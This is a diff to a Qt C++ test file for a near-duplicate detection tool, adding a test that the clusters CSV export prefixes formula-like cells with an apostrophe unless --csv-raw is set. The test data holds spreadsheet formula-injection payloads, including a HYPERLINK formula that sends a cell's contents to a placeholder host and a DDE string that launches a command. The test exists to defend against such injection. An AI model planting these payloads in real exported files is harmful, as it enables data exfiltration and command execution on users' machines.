@@ -2,7 +2,7 @@
 // every string from the data comes out escaped, it references nothing outside itself, the same
 // run gives the same bytes, a changed input is refused (or left out with --no-text), and it
 // never replaces an input or the project. `--clusters-csv` writes the clusters beside it as
-// RFC 4180 CSV.
+// RFC 4180 CSV, formula-like cells guarded unless `--csv-raw`.
 #include <QDir>
 #include <QFile>
 #include <QJsonDocument>
@@ -387,6 +387,82 @@ class TestReport : public QObject {
             QVERIFY(!QFile::exists(d("csv3.html")));
         }
         QCOMPARE(readFile(d("csv.ndw")), project);
+    }
+
+    // Ids are data from whoever wrote the input: one that begins like a spreadsheet formula
+    // (=, +, -, @) is written with a leading ' so that a spreadsheet opening the CSV
+    // shows it instead of running it, in the id, witness and decision cells alike; --csv-raw
+    // writes every cell as stored, for scripts.
+    void clustersCsvCellsCannotRun() {
+        const std::vector<std::string> ids = {"=HYPERLINK(\"http://x/?\"&A1,\"c\")",
+                                              "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "plain"};
+        const std::string text =
+            "a formula paragraph long enough to be shingled into many symbols so that each of "
+            "its copies is found by every band of the signature and lands in one cluster";
+        std::string corpus;
+        for (const std::string& id : ids)
+            corpus += jsonLine(id, text);
+        testsupport::writeFile(d("formula.jsonl").toStdString(), corpus);
+        Result r =
+            testsupport::neardup({QStringLiteral("run"), QStringLiteral("-p"), d("formula.ndw"),
+                                  QStringLiteral("-q"), d("formula.jsonl")},
+                                 inDir());
+        QCOMPARE(r.code, 0);
+        {
+            neardup::ProjectStore store(d("formula.ndw").toStdString());
+            neardup::DocumentTable docs;
+            const neardup::RunResult run = store.loadRun(1);
+            store.loadDataset(run.datasetId, &docs);
+            QCOMPARE(docs.size(), ids.size());
+            store.recordDecision(run.datasetId, neardup::DecisionKind::KeepInstead, 2);
+        }
+        const auto rowsOf = [&](const QStringList& extra) {
+            const Result written = report(
+                QStringList{QStringLiteral("-p"), d("formula.ndw"), QStringLiteral("--out"),
+                            d("formula.html"), QStringLiteral("--clusters-csv"), d("formula.csv")} +
+                extra);
+            if (written.code != 0) qWarning("%s", qPrintable(written.err));
+            return parseCsv(QString::fromUtf8(readFile(d("formula.csv"))));
+        };
+        const QList<QStringList> guarded = rowsOf({});
+        QCOMPARE(guarded.size(), qsizetype(ids.size() + 1));
+        QStringList idCells, witnessCells;
+        for (qsizetype i = 1; i < guarded.size(); ++i) {
+            idCells << guarded[i][2];
+            if (!guarded[i][5].isEmpty()) witnessCells << guarded[i][5];
+            for (const QString& cell : guarded[i])
+                QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.front()),
+                         qPrintable(cell));
+        }
+        QStringList wanted;
+        for (const std::string& id : ids)
+            wanted << (id == "plain" ? QString() : QStringLiteral("'")) +
+                          QString::fromStdString(id);
+        QCOMPARE(idCells, wanted);
+        QVERIFY(!witnessCells.isEmpty());
+        for (const QString& w : witnessCells)
+            QVERIFY2(w.startsWith(u'\''), qPrintable(w));
+
+        const QList<QStringList> raw = rowsOf({QStringLiteral("--csv-raw")});
+        QCOMPARE(raw.size(), guarded.size());
+        QStringList rawIds;
+        for (qsizetype i = 1; i < raw.size(); ++i)
+            rawIds << raw[i][2];
+        wanted.clear();
+        for (const std::string& id : ids)
+            wanted << QString::fromStdString(id);
+        QCOMPARE(rawIds, wanted);
+
+        using neardup::report::CsvCells;
+        using neardup::report::csvField;
+        // Tab and CR cannot begin an id read from an input (invalid_id), but the rule holds.
+        QCOMPARE(csvField("\r=1"), std::string("\"'\r=1\""));
+        QCOMPARE(csvField("\t=1"), std::string("'\t=1"));
+        QCOMPARE(csvField("=1,2"), std::string("\"'=1,2\""));
+        QCOMPARE(csvField("a=1"), std::string("a=1"));
+        QCOMPARE(csvField(""), std::string());
+        QCOMPARE(csvField("=1,2", CsvCells::Raw), std::string("\"=1,2\""));
+        QCOMPARE(csvField("@x", CsvCells::Raw), std::string("@x"));
     }
 };
 
